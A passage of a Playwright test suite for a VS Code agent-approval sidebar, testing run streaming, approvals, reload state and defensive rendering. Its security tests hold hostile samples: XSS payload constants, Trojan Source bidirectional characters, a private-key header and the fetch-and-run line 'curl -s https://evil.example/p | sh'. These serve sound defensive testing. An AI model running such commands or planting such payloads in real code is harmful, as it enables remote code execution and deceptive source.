    // Cancel from a form (one whose answer was not accepted, so its controls are back).
    await multi.getByRole('button', { name: 'Cancel this run' }).click();
    assert.deepEqual(body(await request(s, ++n)), { type: 'cancelRun', run_id: qRun });
  });

  void it('question forms: ask_user options are suggestions, and "Other…" sends an answer of the developer\'s own', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const ask = form(page, c.askUser.interaction_id);
    const radios = ask.getByRole('radiogroup', { name: 'Which package manager should I use?' });
    await radios.waitFor();
    assert.deepEqual(await radios.locator('label').allTextContents(), [
      'npm',
      'pnpm',
      'yarn',
      'Other…',
    ]);
    const other = radios.getByLabel('Other…');
    const own = radios.getByLabel('Your own answer');
    const sent = await postedCount(s);

    // "Other…" with nothing typed: the field says so, the box gets focus, nothing is posted.
    await other.check();
    await ask.getByRole('button', { name: 'Send answer' }).click();
    await ask.locator('.field-error').filter({ hasText: 'This answer is required.' }).waitFor();
    assert.equal(await own.getAttribute('aria-invalid'), 'true');
    assert.equal(
      await page.evaluate(() => document.activeElement?.getAttribute('aria-label')),
      'Your own answer',
    );
    assert.equal(await postedCount(s), sent, 'an invalid form posts nothing');

    // Typing an answer of one's own picks "Other…" even after an option was chosen.
    await radios.getByLabel('yarn', { exact: true }).check();
    await own.fill('bun');
    assert.ok(await other.isChecked(), 'typing picks "Other…"');
    assert.equal(await ask.locator('.field-error').isVisible(), false, 'the error clears');
    await ask.getByRole('button', { name: 'Send answer' }).click();
    assert.deepEqual(body(await request(s, sent + 1)), {
      type: 'answer',
      run_id: c.runIds.questions,
      interaction_id: c.askUser.interaction_id,
      value: 'bun',
    });
  });

  void it('runs list: a running run streams model text as deltas arrive, then tool lines; open trace, cancel and continue', async () => {
    const s = await sidebar();
    const { page } = s;
    const others = (a: { run_id: string }) => a.run_id !== c.runIds.turn;
    await s.send(
      stateWith({
        runs: c.state.runs.map((r) => (r.run_id === c.runIds.turn ? c.runningRow : r)),
        approvals: c.state.approvals.filter(others),
      }),
    );
    const turn = run(page, c.runIds.turn);
    await turn.waitFor();
    assert.equal(await text(turn.locator('.run-status')), 'working…');
    assert.equal(await turn.locator('.run-status .spinner').count(), 1);
    assert.equal(await text(turn.locator('.run-prompt')), 'Tidy up the greeting');
    assert.equal(await turn.getByRole('log').isVisible(), false, 'no output yet');

    const deltas = c.turnEvents.filter((e) => e.type === 'delta');
    assert.ok(deltas.length >= 5, 'the model text streamed in several deltas');
    const full = deltas.map((d) => d.text).join('');
    let sent = 0;
    for (const event of c.turnEvents) {
      await s.send({ type: 'event', event });
      if (event.type === 'delta') {
        sent += 1;
        if (sent === 3) {
          const partial = deltas
            .slice(0, 3)
            .map((d) => d.text)
            .join('');
          await page.waitForFunction(
            ({ id, partial }) =>
              document.querySelector(`section.run[data-run-id="${id}"] .model-text`)
                ?.textContent === partial,
            { id: c.runIds.turn, partial },
          );
        }
      }
    }
    const log = turn.getByRole('log');
    assert.equal(await log.getAttribute('aria-live'), 'polite');
    await log.locator('.tool-line.waiting').nth(2).waitFor();
    assert.equal(await text(log.locator('.model-text')), full);
    const lines = await log.locator('.tool-line').allTextContents();
    const icons = await log
      .locator('.tool-line > .codicon')
      .evaluateAll((spans) => spans.map((el) => el.className));
    assert.deepEqual(icons.slice(0, 6), [
      ...Array<string>(3).fill('codicon codicon-arrow-right'),
      ...Array<string>(3).fill('codicon codicon-debug-pause'),
    ]);
    // The icon font came through the CSP (font-src) and renders: not a fallback box.
    const codiconFont = await page.evaluate(async () => {
      await document.fonts.ready;
      const statuses: string[] = [];
      document.fonts.forEach((font) => {
        if (font.family.replace(/"/g, '') === 'codicon') statuses.push(font.status);
      });
      return statuses;
    });
    assert.deepEqual(codiconFont, ['loaded']);
    // Tool calls read as sentences (a gated write says what its preview found); the raw
    // arguments are on hover.
    assert.deepEqual(lines.slice(0, 3), [
      'Edit src/app.ts (+2 −1)',
      'Create docs/greeting.md (3 lines)',
      'Delete old-notes.txt',
    ]);
    assert.equal(
      await log.locator('.tool-line.call').first().getAttribute('title'),
      'edit_file {"path":"src/app.ts","old_string":"const name = \'world\';","new_string":"const name = \'Airlock\';\\nconst excited = true;"}',
    );
    assert.deepEqual(lines.slice(3), [
      'Waiting for you: Edit src/app.ts?',
      'Waiting for you: Create docs/greeting.md?',
      'Waiting for you: Delete old-notes.txt?',
    ]);

    // The state catches up: paused with three gates; the output stays.
    const interrupted: RunRow = {
      ...rowOf(c.runIds.done),
      status: 'interrupted',
      reason: 'interrupted',
      message: 'The process driving this run stopped.',
    };
    await s.send(
      stateWith({
        runs: c.state.runs
          .filter((r) => r.run_id !== c.runIds.evil)
          .map((r) => (r.run_id === c.runIds.done ? interrupted : r)),
      }),
    );
    await turn.locator('.run-status').filter({ hasText: 'waiting for you (3)' }).waitFor();
    assert.equal(await turn.locator('.spinner').count(), 0);
    assert.equal(
      await text(turn.locator('.run-message')),
      '3 approvals waiting for the developer.',
    );
    assert.equal(await text(log.locator('.model-text')), full);

    const failed = run(page, c.runIds.failed);
    assert.equal(await text(failed.locator('.run-status')), 'failed');
    assert.match(await text(failed.locator('.run-message')), /rejected the request \(400\)/);
    assert.equal(await failed.getByRole('button', { name: /^Cancel/ }).count(), 0);

    await turn.getByRole('button', { name: 'Open trace of run: Tidy up the greeting' }).click();
    const trace = await request(s, 2);
    assert.deepEqual(body(trace), { type: 'openTrace', run_id: c.runIds.turn });
    await s.send({ type: 'reply', id: idOf(trace), ok: true });
    await page.waitForFunction(
      (id) =>
        !document.querySelector<HTMLButtonElement>(`section.run[data-run-id="${id}"] button`)
          ?.disabled,
      c.runIds.turn,
    );
    await turn.getByRole('button', { name: 'Cancel run: Tidy up the greeting' }).click();
    assert.deepEqual(body(await request(s, 3)), { type: 'cancelRun', run_id: c.runIds.turn });

    const cont = run(page, c.runIds.done);
    assert.equal(await text(cont.locator('.run-status')), 'interrupted');
    await cont.getByRole('button', { name: 'Continue run: Read the greeting' }).click();
    const continued = await request(s, 4);
    assert.deepEqual(body(continued), { type: 'continueRun', run_id: c.runIds.done });
    await s.send({
      type: 'reply',
      id: idOf(continued),
      ok: false,
      error: 'The run is not interrupted.',
    });
    await cont.getByRole('alert').filter({ hasText: 'The run is not interrupted.' }).waitFor();

    // Events of a run the state does not list yet show up at once, under its prompt.
    for (const event of c.evilEvents.slice(0, 3)) await s.send({ type: 'event', event });
    const fresh = run(page, c.runIds.evil);
    await fresh.waitFor();
    assert.equal(await text(fresh.locator('.run-status')), 'working…');
    assert.equal(await text(fresh.locator('.run-prompt')), `Make a page ${XSS_IMG}`);
  });

  void it('runs list: the model\'s reasoning shows collapsed under "Thinking" (text only, redacted), apart from its answer; a model_error run offers Retry', async () => {
    const { events, runId, reasoning, answer } = await thinkingRun();
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    for (const event of events) await s.send({ type: 'event', event });
    const view = run(page, runId);
    const block = view.locator('details.thinking');
    await view.locator('.model-text').filter({ hasText: answer }).waitFor();
    assert.equal(await block.count(), 1, 'one block for one stretch of reasoning');
    assert.equal(await block.evaluate((d) => (d as HTMLDetailsElement).open), false, 'collapsed');
    assert.equal(await view.locator('.thinking-text').isVisible(), false);
    assert.equal(await text(block.locator('summary')), `Thinking (${[...reasoning].length} chars)`);
    assert.equal(await text(view.locator('.model-text')), answer, 'the answer holds no reasoning');
    await shotOf(view, 'runs-thinking-collapsed');
    // Text only: the markup in the reasoning is text, nothing ran.
    assert.equal(await view.locator('.output img').count(), 0);
    assert.equal(await page.evaluate(() => (window as { __pwned?: number }).__pwned), undefined);

    await block.locator('summary').click();
    assert.equal(await block.evaluate((d) => (d as HTMLDetailsElement).open), true);
    assert.equal(await text(block.locator('.thinking-text')), reasoning);
    assert.ok(!reasoning.includes('sk-'), 'redacted before it reached the sidebar');
    await shotOf(view, 'runs-thinking-open');
    await block.locator('summary').click();

    // A run whose model call failed (the "Break the model" run: a real 400): its error and Retry.
    const failed = run(page, c.runIds.failed);
    assert.equal(await text(failed.locator('.run-status')), 'failed');
    assert.equal(rowOf(c.runIds.failed).reason, 'model_error');
    assert.match(await text(failed.locator('.run-message')), /rejected the request \(400\)/);
    await shotOf(failed, 'runs-model-error-retry');
    const posts = await postedCount(s);
    await failed
      .getByRole('button', { name: 'Retry the failed model call of run: Break the model' })
      .click();
    const retry = await request(s, posts + 1);
    assert.deepEqual(body(retry), { type: 'continueRun', run_id: c.runIds.failed });
    await s.send({ type: 'reply', id: idOf(retry), ok: true });
    // Once it succeeds the row is an ordinary finished run: no Retry.
    await s.send(
      stateWith({
        runs: c.state.runs.map((r) =>
          r.run_id === c.runIds.failed
            ? { ...r, status: 'success', reason: 'completed', message: 'The agent finished.' }
            : r,
        ),
      }),
    );
    await failed.locator('.run-status').filter({ hasText: 'done' }).waitFor();
    assert.equal(await failed.getByRole('button', { name: /^Retry/ }).count(), 0);
    // Other failures offer no Retry.
    await s.send(
      stateWith({
        runs: c.state.runs.map((r) =>
          r.run_id === c.runIds.failed ? { ...r, reason: 'tool_error' } : r,
        ),
      }),
    );
    await failed.locator('.run-status').filter({ hasText: 'failed' }).waitFor();
    assert.equal(await failed.getByRole('button', { name: /^Retry/ }).count(), 0);
  });

  void it('runs list after a reload: each run asks once for its stored transcript and shows all of it (a paused run what came before the reload); tool calls read as sentences', async () => {
    const s = await sidebar();
    const { page } = s;
    const transcript = (runId: string) => ({
      type: 'transcript' as const,
      run_id: runId,
      events: c.stored[runId] ?? [],
      omitted: 0,
      error: null,
    });
    const show = async () => {
      await s.send(c.state);
      // One message asks for every listed run (newest first), never again for the same page.
      await page.waitForFunction(
        () => (window as unknown as { __asked: unknown[] }).__asked.length > 0,
      );
      const asked = await s.asked();
      assert.equal(asked.length, 1);
      assert.deepEqual(
        asked[0]?.run_ids,
        c.state.runs.slice(0, 20).map((r) => r.run_id),
      );
      await s.send(c.state);
      assert.equal((await s.asked()).length, 1, 'asked once');
      assert.equal((await s.posted()).length, 1, 'only "ready" among the requests');
    };
    await show();

    // A finished run: its whole transcript, not only its final message.
    const done = run(page, c.runIds.done);
    assert.equal(await done.getByRole('log').isVisible(), false, 'nothing before the transcript');
    await s.send(transcript(c.runIds.done));
    const doneLog = done.getByRole('log');
    await doneLog.locator('.tool-line').first().waitFor();
    assert.deepEqual(await doneLog.locator('.tool-line.call').allTextContents(), [
      'Read src/app.ts',
    ]);
    assert.match(await text(doneLog.locator('.model-text')), /The greeting prints "hello world"/);
    assert.match(
      (await doneLog.locator('.tool-line.call').first().getAttribute('title')) ?? '',
      /^read_file \{"path":"src\/app.ts"\}/,
    );

    // The questions run: each ask as a sentence.
    const questions = run(page, c.runIds.questions);
    await s.send(transcript(c.runIds.questions));
    await questions.getByRole('log').locator('.tool-line').first().waitFor();
    const asks = await questions.getByRole('log').locator('.tool-line.call').allTextContents();
    const askCall = (c.stored[c.runIds.questions] ?? []).find(
      (e) => e.type === 'tool_call' && e.tool === 'ask_user',
    );
    const q1 = (askCall as { input: { question: string } } | undefined)?.input.question;
    assert.ok(q1, 'the questions run called ask_user');
    assert.ok(asks.includes(`Ask: ${q1}`), `asks: ${asks.join(' | ')}`);

    // Reload: the paused run's output is what happened before it, from the store.
    await s.reload();
    await show();
    const turn = run(page, c.runIds.turn);
    await s.send(transcript(c.runIds.turn));
    const log = turn.getByRole('log');
    await log.locator('.tool-line.waiting').nth(2).waitFor();
    assert.match(await text(log.locator('.model-text')), /switch the greeting to Airlock/);
    assert.deepEqual(await log.locator('.tool-line').allTextContents(), [
      'Edit src/app.ts (+2 −1)',
      'Create docs/greeting.md (3 lines)',
      'Delete old-notes.txt',
      'Waiting for you: Edit src/app.ts?',
      'Waiting for you: Create docs/greeting.md?',
      'Waiting for you: Delete old-notes.txt?',
    ]);
    // A transcript that could not be read says so, in place.
    await s.send({ ...transcript(c.runIds.failed), error: 'There is no run.' });
    await run(page, c.runIds.failed)
      .getByText('The earlier output could not be read: There is no run.')
      .waitFor();
    await s.send(transcript(c.runIds.done));
    await done.getByRole('log').locator('.tool-line').first().waitFor();
    await shotOf(page.locator('section.runs'), 'runs-after-reload');
  });

  void it('runs list: the output follows its end while events arrive, and stays put once the developer scrolls up', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const turn = run(page, c.runIds.turn);
    await turn.waitFor();
    const events = c.stored[c.runIds.turn] ?? [];
    await s.send({ type: 'transcript', run_id: c.runIds.turn, events, omitted: 0, error: null });
    const log = turn.getByRole('log');
    await log.locator('.tool-line').first().waitFor();
    const calls = events.filter((e) => e.type === 'tool_call' || e.type === 'approval');
    const geometry = () =>
      log.evaluate((el) => ({ top: el.scrollTop, max: el.scrollHeight - el.clientHeight }));
    const atEnd = async () => {
      const g = await geometry();
      return g.max > 0 && Math.abs(g.top - g.max) <= 1;
    };
    // Real tool lines, again and again: the box overflows and keeps its end in view.
    for (let round = 0; round < 4; round++) {
      for (const event of calls) await s.send({ type: 'event', event });
    }
    assert.ok((await geometry()).max > 100, 'the output overflows its box');
    assert.ok(await atEnd(), 'follows the end');

    // The developer scrolls up: new lines do not pull the view down.
    await log.evaluate((el) => {
      el.scrollTop = 0;
      el.dispatchEvent(new Event('scroll'));
    });
    const count = await log.locator('.tool-line').count();
    for (const event of calls) await s.send({ type: 'event', event });
    await page.waitForFunction(
      ({ id, n }) =>
        document.querySelectorAll(`section.run[data-run-id="${id}"] .tool-line`).length > n,
      { id: c.runIds.turn, n: count },
    );
    assert.equal((await geometry()).top, 0, 'stays where the developer scrolled');

    // Back at the end: it follows again.
    await log.evaluate((el) => {
      el.scrollTop = el.scrollHeight;
      el.dispatchEvent(new Event('scroll'));
    });
    for (const event of calls) await s.send({ type: 'event', event });
    await page.waitForFunction(
      ({ id, n }) =>
        document.querySelectorAll(`section.run[data-run-id="${id}"] .tool-line`).length > n,
      { id: c.runIds.turn, n: count + calls.length },
    );
    assert.ok(await atEnd(), 'follows the end again');
  });

  void it('the prompt box runs on Ctrl+Enter, refuses an empty prompt, keeps the text when the extension refuses, and clears once accepted', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const box = page.getByLabel('Ask the agent');
    const runButton = page.getByRole('button', { name: 'Run', exact: true });
    await runButton.click();
    await page
      .locator('.prompt-box')
      .getByRole('alert')
      .filter({ hasText: 'Describe what the agent should do first.' })
      .waitFor();
    assert.equal(await postedCount(s), 1);

    await box.fill('  Add a test for greet()  ');
    await box.press('Control+Enter');
    const start = await request(s, 2);
    assert.deepEqual(body(start), { type: 'startRun', prompt: 'Add a test for greet()' });
    assert.ok(await runButton.isDisabled());
    await s.send({ type: 'reply', id: idOf(start), ok: false, error: 'Set an API key first.' });
    await page
      .locator('.prompt-box')
      .getByRole('alert')
      .filter({ hasText: 'Set an API key first.' })
      .waitFor();
    assert.equal(await box.inputValue(), '  Add a test for greet()  ');
    assert.ok(await runButton.isEnabled());

    await runButton.click();
    const again = await request(s, 3);
    await s.send({ type: 'reply', id: idOf(again), ok: true });
    await page.waitForFunction(
      () => (document.getElementById('prompt-input') as HTMLTextAreaElement).value === '',
    );
    assert.ok(await runButton.isEnabled());
  });

  void it('untrusted prompt, arguments, diff, model output and questions render as literal text and run no script', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    for (const event of c.evilEvents) await s.send({ type: 'event', event });
    const evil = card(page, c.evil.approval_id);
    await evil.waitFor();
    await run(page, c.runIds.evil).locator('.model-text').waitFor();

    assert.equal(await text(evil.locator('.prompt')), c.evil.prompt);
    assert.ok(c.evil.prompt.includes(XSS_IMG) && c.evil.prompt.includes(XSS_SCRIPT));
    const input = c.evil.input as { path: string; content: string };
    assert.deepEqual(await evil.locator('table.args pre').allTextContents(), [
      input.path,
      input.content,
    ]);
    assert.deepEqual(
      (await diffRows(evil)).slice(1).map((row) => row.at(-1)),
      ['<p>hi</p>', XSS_IMG, XSS_SCRIPT],
    );
    assert.equal(
      await text(run(page, c.runIds.evil).locator('.model-text')),
      `Here is the page: ${XSS_IMG} ${XSS_SCRIPT}`,
    );
    const question = form(page, c.evilQuestion.interaction_id);
    assert.equal(await text(question.locator('.prompt')), `Title? ${XSS_SCRIPT}`);
    assert.deepEqual(await question.locator('.option label').allTextContents(), [XSS_IMG, 'plain']);

    const dom = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      images: document.querySelectorAll('img').length,
      scripts: document.scripts.length,
      handlers: Array.from(document.querySelectorAll('*')).filter((el) =>
        Array.from(el.attributes).some((a) => a.name.startsWith('on')),
      ).length,
    }));
    assert.deepEqual(dom, { pwned: undefined, images: 0, scripts: 1, handlers: 0 });
  });

  void it('hidden characters: a Trojan Source proposal shows ⟨U+XXXX⟩ markers in the arguments and the diff, and a warning; the card says how many secrets were masked and which were too long to mask', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(
      stateWith({
        runs: [c.bidiRow, c.secretsRow, ...c.state.runs],
        approvals: [...c.state.approvals, c.bidi, c.secrets],
      }),
    );
    const bidi = card(page, c.bidi.approval_id);
    await bidi.waitFor();

    const warning = bidi.locator('.notice.hidden-chars');
    assert.equal(await warning.count(), 1, 'a warning line on the card');
    assert.equal(await warning.getAttribute('role'), 'note');
    assert.equal(
      await text(warning),
      'This proposal contains 4 hidden or bidirectional Unicode characters that may be interpreted or compiled differently than what appears. Each is shown as a marker such as ⟨U+202E⟩; hover a marker for its name.',
    );
    const marked = '/*⟨U+202E⟩ } ⟨U+2066⟩if (isAdmin)⟨U+2069⟩ ⟨U+2066⟩ begin admins only */';
    assert.deepEqual(
      (await diffRows(bidi)).slice(1).map((row) => row.at(-1)),
      ['const isAdmin = false;', marked, "console.log('ok');"],
    );
    const markers = (scope: Locator) =>
      scope
        .locator('.hidden-char')
        .evaluateAll((els) =>
          els.map((el) => [el.tagName, el.textContent, el.getAttribute('title')]),
        );
    const expected = [
      ['SPAN', '⟨U+202E⟩', 'U+202E RIGHT-TO-LEFT OVERRIDE'],
      ['SPAN', '⟨U+2066⟩', 'U+2066 LEFT-TO-RIGHT ISOLATE'],
      ['SPAN', '⟨U+2069⟩', 'U+2069 POP DIRECTIONAL ISOLATE'],
      ['SPAN', '⟨U+2066⟩', 'U+2066 LEFT-TO-RIGHT ISOLATE'],
    ];
    assert.deepEqual(await markers(bidi.locator('table.diff')), expected);
    assert.deepEqual(await markers(bidi.locator('table.args')), expected);
    assert.equal(
      await text(bidi.locator('table.args pre').nth(1)),
      `const isAdmin = false;\n${marked}\nconsole.log('ok');\n`,
    );
    // Not one raw bidirectional or zero-width character reaches the page's text.
    assert.doesNotMatch(await text(bidi), /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/);
    assert.ok(TROJAN.includes('\u202e'), 'the proposal really holds them');

    const secrets = card(page, c.secrets.approval_id);
    const { masked, too_long: tooLong } = c.secrets.redaction ?? { masked: 0, too_long: 0 };
    assert.ok(
      masked > 1 && tooLong > 1,
      `the runtime counted: ${JSON.stringify(c.secrets.redaction)}`,
    );
    assert.deepEqual(
      await secrets.locator('.redaction-note:visible, .notice:visible').allTextContents(),
      [
        `${masked} secrets masked (shown as ***).`,
        `${tooLong} secret-like values were too long to mask and are shown in full.`,
      ],
    );
    assert.equal(await secrets.locator('.notice.too-long').getAttribute('role'), 'note');
    assert.match(await text(secrets.locator('table.diff')), /-----BEGIN PRIVATE KEY-----/);
    assert.match(
      await text(secrets.locator('table.diff')),
      /curl -s https:\/\/evil\.example\/p \| sh/,
    );
    // An ordinary card says none of it.
    const plain = card(page, c.create.approval_id);
    assert.equal(
      await plain.locator('.hidden-chars, .redaction-note, .too-long, .hidden-char').count(),
      0,
    );

    // Markers are the only elements added, and nothing became markup or script.
    const dom = await page.evaluate(() => ({
      inCode: Array.from(document.querySelectorAll('table.diff td.code *')).map(
        (el) => el.className,
      ),
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      scripts: document.scripts.length,
      handlers: Array.from(document.querySelectorAll('*')).filter((el) =>
        Array.from(el.attributes).some((a) => a.name.startsWith('on')),
      ).length,
    }));
    assert.deepEqual([...new Set(dom.inCode)].sort(), [
      'hidden-char',
      'line-text',
      'sign',
      'visually-hidden',
    ]);
    assert.deepEqual([dom.pwned, dom.scripts, dom.handlers], [undefined, 1, 0]);

    await bidi.scrollIntoViewIfNeeded();
    await shotOf(bidi, 'hidden-chars-card-light');
    await shotOf(secrets, 'masked-card-light');
    await s.theme('dark');
    await shotOf(bidi, 'hidden-chars-card-dark');
    await s.theme('high-contrast');
    await shotOf(bidi, 'hidden-chars-card-high-contrast');
  });

  void it('the page CSP has no unsafe-inline or unsafe-eval, and blocks inline script and inline handlers', async () => {
    const s = await sidebar();
    const { page } = s;
    const csp = await page.evaluate(
      () =>
        document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')
          ?.content,
    );
    assert.equal(csp, harness.csp);
    assert.match(csp ?? '', /default-src 'none'/);
    assert.match(csp ?? '', /script-src 'nonce-[A-Za-z0-9+/=]+'/);
    assert.doesNotMatch(csp ?? '', /unsafe-inline|unsafe-eval/);

    assert.equal(await blockedBy(page, 'script'), 'script-src-elem');
    assert.equal(await blockedBy(page, 'handler'), 'script-src-attr');
    assert.equal(
      await page.evaluate(() => (window as unknown as { __inline?: unknown }).__inline),
      undefined,
    );
  });

  void it('keyboard: every stop on the way is a labelled control with a visible focus ring; Tab reaches the first Approve and Enter approves', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const first = c.state.approvals[0]!;
    await card(page, first.approval_id).waitFor();
    let reached = false;
    for (let i = 0; i < 40 && !reached; i++) {
      await page.keyboard.press('Tab');
      const stop = await page.evaluate(() => {
        const el = document.activeElement as HTMLElement & {
          labels?: NodeListOf<HTMLLabelElement>;
        };
        const name =
          el.getAttribute('aria-label') ??
          (el.labels && el.labels.length ? el.labels[0]?.textContent : null) ??
          el.textContent;
        const style = getComputedStyle(el);
        return {
          tag: el.tagName,
          name: (name ?? '').trim(),
          outline: style.outlineStyle !== 'none' && style.outlineWidth !== '0px',
          approvalId: el.closest('section.card')?.getAttribute('data-approval-id') ?? null,
          isApprove: el.tagName === 'BUTTON' && el.textContent === 'Approve',
        };
      });
      assert.ok(
        ['BUTTON', 'INPUT', 'TEXTAREA', 'SELECT'].includes(stop.tag),
        `stop ${i}: ${stop.tag}`,
      );
      assert.ok(stop.name, `stop ${i} (${stop.tag}) has an accessible name`);
      assert.ok(stop.outline, `stop ${i} (${stop.name}) shows a focus outline`);
      reached = stop.isApprove && stop.approvalId === first.approval_id;
    }
    assert.ok(reached, 'Tab reached the first card’s Approve button');
    await page.keyboard.press('Enter');
    assert.deepEqual(body(await request(s, 2)), {
      type: 'approve',
      run_id: first.run_id,
      approval_id: first.approval_id,
      scope: 'once',
    });
    // Deciding removes the card: focus lands on the section heading, not on another card.
    await s.send(stateWith({ approvals: c.state.approvals.slice(1) }));
    await card(page, first.approval_id).waitFor({ state: 'detached' });
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'pending-heading');
  });

  void it('the prompt draft, unsent reasons, comments and answers, and the scroll position survive the webview being reloaded', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const create = card(page, c.create.approval_id);
    await create.waitFor();
    await page.getByLabel('Ask the agent').fill('Draft: rename greet to hello');
    await create.getByText('Deny with reason…', { exact: true }).click();
    await create.getByLabel('Reason, if you deny').fill('Use the existing docs folder');
    await card(page, c.edit.approval_id).getByText('Add comment', { exact: true }).click();
    await card(page, c.edit.approval_id).getByLabel('Comment (optional)').fill('ok after review');
    await form(page, c.askUser.interaction_id).getByLabel('yarn').check();
    await form(page, c.number.interaction_id).getByLabel('How many retries (1-10)?').fill('3');
    await form(page, c.checks.interaction_id).getByLabel('test').check();
    await card(page, c.edit.approval_id)
      .getByRole('button', { name: 'Open diff of src/app.ts in the editor' })
      .click();
    const openDiff = await request(s, 2);
    await s.send({ type: 'reply', id: idOf(openDiff), ok: true });
    await page.evaluate(() => window.scrollTo(0, 700));
    await page.waitForFunction(
      () =>
        (JSON.parse(sessionStorage.getItem('vscode-state') ?? '{}') as { scrollY?: number })
          .scrollY === 700,
    );

    await s.reload();
    assert.deepEqual(await s.posted(), [{ type: 'ready' }]);
    await s.send(c.state);
    await create.waitFor();
    assert.equal(
      await page.getByLabel('Ask the agent').inputValue(),
      'Draft: rename greet to hello',
    );
    assert.equal(
      await create.getByLabel('Reason, if you deny').inputValue(),
      'Use the existing docs folder',
    );
    assert.equal(
      await card(page, c.edit.approval_id).getByLabel('Comment (optional)').inputValue(),
      'ok after review',
    );
    assert.ok(await form(page, c.askUser.interaction_id).getByLabel('yarn').isChecked(), 'radio');
    assert.equal(
      await form(page, c.number.interaction_id).getByLabel('How many retries (1-10)?').inputValue(),
      '3',
    );
    assert.ok(await form(page, c.checks.interaction_id).getByLabel('test').isChecked(), 'checkbox');
    await page.waitForFunction(() => window.scrollY === 700);

    // Request ids keep counting across the reload, so a late reply never hits a new request.
    await create.getByRole('button', { name: /^Deny:/ }).click();
    const deny = await request(s, 2);
    assert.equal(idOf(deny), idOf(openDiff) + 1, 'request ids continue the earlier count');
    assert.deepEqual(body(deny), {
      type: 'deny',
      run_id: c.runIds.turn,
      approval_id: c.create.approval_id,
      reason: 'Use the existing docs folder',
      scope: 'once',
    });

    // Once a pending item is gone, what was typed for it is forgotten.
    await s.send(stateWith({ approvals: [], interactions: [] }));
    await page.getByText('Nothing waiting for you.').waitFor();
    const saved = await page.evaluate(
      () =>
        JSON.parse(sessionStorage.getItem('vscode-state') ?? '{}') as {
          fields: object;
          draft: string;
        },
    );
    assert.deepEqual(saved.fields, {});
    assert.equal(saved.draft, 'Draft: rename greet to hello');
  });

  void it('"Always…": the control names the exact rule (file, folder or tool; run or workspace), posts it, and the card and the run output say which rule was made', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const create = card(page, c.create.approval_id);
    const always = create.getByRole('group', { name: 'Always allow or deny…' });
    await always.waitFor();
    const covers = always.getByLabel('Covers');
    const scopes = always.getByLabel('For', { exact: true });
    assert.deepEqual(await covers.locator('option').allTextContents(), [
      'this file (docs/greeting.md)',
      'this folder (docs/**)',
      'every write_file call',
    ]);
    assert.deepEqual(await scopes.locator('option').allTextContents(), [
      'this run',
      'this workspace',
    ]);
    // The narrowest choice is the default; the buttons' names follow the selects.
    assert.ok(
      await always
        .getByRole('button', {
          name: 'Always allow write_file: this file (docs/greeting.md) in this run',
        })
        .isVisible(),
    );
    await covers.selectOption('folder');
    await scopes.selectOption('workspace');
    const allow = always.getByRole('button', {
      name: 'Always allow write_file: this folder (docs/**) in this workspace',
    });
    // Keyboard: the selects and buttons are in the tab order, one after the other.
    await covers.focus();
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement?.tagName), 'SELECT');
    await page.keyboard.press('Tab');
    assert.equal(
      await page.evaluate(() => document.activeElement?.getAttribute('aria-label')),
      'Always allow write_file: this folder (docs/**) in this workspace',
    );
    await page.keyboard.press('Enter');
    const allowed = await request(s, 2);
    assert.deepEqual(body(allowed), {
      type: 'approve',
      run_id: c.runIds.turn,
      approval_id: c.create.approval_id,
      scope: 'workspace',
      cover: 'folder',
    });
    assert.ok(await allow.isDisabled(), 'the card is busy while the decision is out');
    await s.send({ type: 'reply', id: idOf(allowed), ok: true });
    const said = 'Always allowed write_file on docs/** for this workspace.';
    await create
      .getByRole('status')
      .filter({ hasText: `${said} Waiting for the run to continue…` })
      .waitFor();
    await run(page, c.runIds.turn).locator('.tool-line.decided', { hasText: said }).waitFor();

    // Always deny every edit_file call in this run, with the reason typed for the agent.
    const edit = card(page, c.edit.approval_id);
    await edit.getByText('Deny with reason…', { exact: true }).click();
    await edit.getByLabel('Reason, if you deny').fill('Leave app.ts alone');
    await edit.getByLabel('Covers').selectOption('tool');
    await edit
      .getByRole('button', { name: 'Always deny edit_file: every edit_file call in this run' })
      .click();
    const denied = await request(s, 3);
    assert.deepEqual(body(denied), {
      type: 'deny',
      run_id: c.runIds.turn,
      approval_id: c.edit.approval_id,
      reason: 'Leave app.ts alone',
      scope: 'run',
      cover: 'tool',
    });
    await s.send({ type: 'reply', id: idOf(denied), ok: true });
    await run(page, c.runIds.turn)
      .locator('.tool-line.decided', {
        hasText: 'Always denied every edit_file call for this run.',
      })
      .waitFor();

    // A file at the workspace root: its "folder" is the root's files. A gate without a file
    // offers only the whole tool.
    const remove = card(page, c.remove.approval_id);
    assert.deepEqual(await remove.getByLabel('Covers').locator('option').allTextContents(), [
      'this file (old-notes.txt)',
      'files at the workspace root (*)',
      'every delete_file call',
    ]);
    const toolOnly = { ...c.stale, approval_id: 'apr_no_file', tool: 'deploy', preview: null };
    await s.send(stateWith({ approvals: [...c.state.approvals, toolOnly] }));
    const deploy = card(page, 'apr_no_file');
    assert.deepEqual(await deploy.getByLabel('Covers').locator('option').allTextContents(), [
      'every deploy call',
    ]);

    // The choice survives the webview being reloaded, like typed text.
    await card(page, c.stale.approval_id).getByLabel('Covers').selectOption('folder');
    await s.reload();
    await s.send(c.state);
    assert.equal(await card(page, c.stale.approval_id).getByLabel('Covers').inputValue(), 'folder');
    await shotOf(
      card(page, c.stale.approval_id).locator('fieldset.always'),
      'always-control-light',
    );
  });

  void it('a protected card (.vscode/) shows a "Protected path" badge with a shield and why, and offers no always-allow', async () => {
    const s = await sidebar();
    const { page } = s;
    assert.equal(c.shielded.protected, true, 'the runtime marked the .vscode/ write protected');
    await s.send(
      stateWith({
        runs: [c.shieldedRow, ...c.state.runs],
        approvals: [...c.state.approvals, c.shielded],
      }),
    );
    const shielded = page.getByRole('region', {
      name: 'Create .vscode/settings.json (write_file), protected path',
    });
    await shielded.waitFor();
